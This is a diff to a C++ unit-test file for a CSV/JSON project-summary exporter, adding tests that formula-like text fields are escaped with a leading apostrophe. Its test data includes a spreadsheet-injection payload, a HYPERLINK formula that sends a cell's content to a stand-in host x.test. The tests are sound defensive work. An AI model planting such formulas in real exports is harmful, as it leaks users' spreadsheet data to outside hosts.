@@ -8,11 +8,14 @@
 #include <string>
 #include <vector>
 
+#include "file/lng_format.h"
 #include "support/records.h"
 
 namespace fs = std::filesystem;
 
-TEST(ProjectSummary, CsvFieldsAreQuotedAsRfc4180Says) {
+// Quoted as RFC 4180 says, and a text a spreadsheet would run as a formula made text by a
+// leading apostrophe.
+TEST(ProjectSummary, CsvFieldsAreQuotedAndNeverFormulas) {
   struct Row {
     std::string text, field;
   };
@@ -24,6 +27,14 @@ TEST(ProjectSummary, CsvFieldsAreQuotedAsRfc4180Says) {
       {"line one\r\nline two", "\"line one\r\nline two\""},
       {"lone\rCR", "\"lone\rCR\""},
       {"\"", "\"\"\"\""},
+      {"=HYPERLINK(\"http://x.test/?\"&A2,\"Click\")",
+       "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A2,\"\"Click\"\")\""},
+      {"+1", "'+1"},
+      {"-5+00", "'-5+00"},
+      {"@SUM(A1:A2)", "'@SUM(A1:A2)"},
+      {"\t=1", "'\t=1"},
+      {"\r=1", "\"'\r=1\""},
+      {"1=1", "1=1"},
   };
   for (const Row& row : rows) EXPECT_EQ(CsvField(row.text), row.field) << row.text;
 }
@@ -70,4 +81,30 @@ TEST(ProjectSummary, RowsFollowTheTreeThroughLinksAndOddNames) {
   EXPECT_EQ(progress, (std::vector<std::size_t>{0, 1, 1, 2, 2, 3, 3, 3, 3, 4, 4, 5}));
   EXPECT_EQ(rows[0]["project"], "MAIN ST");
   EXPECT_EQ(rows[0]["pointCount"], 5);
+}
+
+// Only the CSV's texts are kept from becoming formulas: a number, even a negative one, is
+// written as it is, and the JSON holds the texts as the record does.
+TEST(ProjectSummary, OnlyTheCsvTextsAreKeptFromBeingFormulas) {
+  testdata::TempDir dir;
+  CDensoraDoc doc;
+  testdata::FillTypicalRecord(doc);
+  const std::string comment = "=HYPERLINK(\"http://x.test/?\"&A2,\"Click\")";
+  doc.m_record.m_strComments = comment;
+  doc.m_record.m_strStation = "-5+00";
+  doc.m_record.m_dLongTestMoisture = -1.5;
+  testdata::WriteBytes(dir / "t.lng", LngBytes(doc.m_record));
+
+  std::ostringstream csv, json;
+  ASSERT_EQ(WriteProjectSummary(dir.path().string(), SummaryFormat::kCsv, kEnglish, csv), 0u);
+  ASSERT_EQ(WriteProjectSummary(dir.path().string(), SummaryFormat::kJson, kEnglish, json), 0u);
+  EXPECT_NE(csv.str().find(",'-5+00,"), std::string::npos) << csv.str();
+  EXPECT_NE(csv.str().find(",\"'=HYPERLINK(\"\"http://x.test/?\"\"&A2,\"\"Click\"\")\","),
+            std::string::npos)
+      << csv.str();
+  EXPECT_NE(csv.str().find(",-1.5,"), std::string::npos) << csv.str();
+  const nlohmann::json row = nlohmann::json::parse(json.str()).at(0);
+  EXPECT_EQ(row["station"], "-5+00");
+  EXPECT_EQ(row["comments"], comment);
+  EXPECT_EQ(row["longTestMoisture"], -1.5);
 }
